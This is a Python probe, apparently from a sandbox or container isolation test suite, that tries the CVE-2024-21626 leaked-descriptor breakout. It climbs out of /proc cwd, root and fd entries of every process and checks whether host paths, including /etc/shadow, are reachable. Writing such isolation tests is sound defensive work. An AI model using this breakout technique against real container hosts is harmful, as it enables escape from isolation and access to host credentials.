"""Climb out from every descriptor, working directory and root of every process there is (CVE-2024-21626)."""

import glob
import os

from kit import denied, escaped, every, in_child

STEPS = "/".join([".."] * 24)


def attempt(event):
    ways = ["/proc/self/cwd", "/proc/thread-self/cwd", *glob.glob("/proc/[0-9]*/cwd"), *glob.glob("/proc/[0-9]*/root")]
    ways += (
        glob.glob("/proc/[0-9]*/fd/*") + glob.glob("/proc/[0-9]*/task/*/fd/*") + glob.glob("/proc/[0-9]*/map_files/*")
    )
    own = os.stat("/")

    def climb(way):
        try:
            os.chdir(way)
        except OSError:
            return denied("no directory")
        for _ in range(40):
            os.chdir("..")
        here = os.stat(".")
        if (here.st_dev, here.st_ino) != (own.st_dev, own.st_ino):
            return escaped(f"{way} leads to another root: {os.listdir('.')[:5]}")
        for path in (event["sentinel"], event["data"], "/etc/shadow"):
            for start in (way, "."):
                if os.path.exists(f"{start}/{STEPS}{path}"):
                    return escaped(f"{way} leads to {path}")
        return denied("leads to the own root")

    return every(in_child(lambda way=way: climb(way)) for way in ways)
